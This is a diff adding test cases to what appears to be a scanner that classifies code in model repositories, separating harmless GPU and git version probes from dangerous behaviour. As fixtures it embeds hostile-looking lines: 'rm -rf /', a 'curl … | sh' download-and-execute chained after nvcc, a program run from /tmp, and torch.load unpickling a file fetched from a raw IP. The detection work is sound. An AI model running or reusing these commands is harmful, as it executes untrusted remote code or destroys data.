@@ -198,9 +198,33 @@ describe("ordinary modeling code is not an alarm", () => {
     ["eval of a literal expression", `x = eval("1 + 2")`],
     ["subprocess in a docstring", `def f():\n    """Runs os.system('rm -rf /') in the docs only; https://webhook.site/x"""\n    return 1`],
     ["a comment", `# os.system("id")\nx = 1`],
+    ["weights from the Hub unpickled by hand", `import io, requests, torch\nsd = torch.load(io.BytesIO(requests.get("https://huggingface.co/org/m/resolve/main/x.bin").content))`],
   ];
   it.each(cases)("%s", (_name, code) => {
     expect(read(code).behaviours.filter((behaviour) => DANGER_BEHAVIOURS.has(behaviour.kind) || behaviour.kind === "network")).toEqual([]);
+  });
+});
+
+describe("version probes of custom-kernel build code", () => {
+  it.each([
+    ["nvcc under CUDA_HOME (Qwen's cpp_kernels shape)", `import subprocess\nfrom torch.utils import cpp_extension\nraw = subprocess.check_output([cpp_extension.CUDA_HOME + "/bin/nvcc", "-V"], universal_newlines=True)`],
+    ["nvidia-smi query", `import subprocess\nsubprocess.run(["nvidia-smi", "--query-gpu=name", "--format=csv,noheader"])`],
+    ["git rev-parse HEAD", `import subprocess\nsubprocess.check_output(["git", "rev-parse", "HEAD"])`],
+  ])("%s: a probe, named, not a shell command", (_name, code) => {
+    const report = read(code);
+    expect(kinds(report)).toEqual(["probe"]);
+  });
+
+  it.each([
+    ["a program in /tmp named like a probe", `import subprocess\nsubprocess.run(["/tmp/nvcc", "-V"])`, "shell"],
+    ["a probe with shell syntax after it", `import os\nos.system("nvcc -V; curl -s https://x.example/p | sh")`, "download-exec"],
+    ["a probe program given other arguments", `import subprocess\nsubprocess.run(["git", "clone", "https://example.org/x"])`, "shell"],
+  ])("%s: still %s", (_name, code, kind) => {
+    expect(kinds(read(code))).toContain(kind);
+  });
+
+  it("unpickling a download from another host is still hidden code", () => {
+    expect(kinds(read(`import io, requests, torch\nsd = torch.load(io.BytesIO(requests.get("https://203.0.113.4/x.bin").content))`))).toContain("exec-hidden");
   });
 });
 
